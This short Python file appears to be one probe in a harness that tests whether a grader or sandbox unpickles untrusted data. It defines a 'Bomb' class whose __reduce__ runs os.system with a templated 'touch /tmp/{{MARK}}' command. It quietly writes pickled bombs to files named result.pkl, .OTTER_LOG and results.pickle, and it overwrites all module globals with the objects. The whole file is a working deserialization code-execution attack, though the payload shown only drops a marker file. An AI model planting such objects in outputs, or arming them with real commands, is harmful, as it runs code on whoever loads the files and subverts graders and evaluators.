# tries: objects that run a program when they are unpickled, returned and left as files
import os
import pickle
from pathlib import Path

from arms import everything, quietly


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/{{MARK}}",)


def bomb(*args, **kwargs):
    for name in ("result.pkl", ".OTTER_LOG", "results.pickle"):
        quietly(lambda path: Path(path).write_bytes(pickle.dumps(Bomb())), name)
    return pickle.dumps(Bomb())


globals().update(everything(bomb, Bomb()))
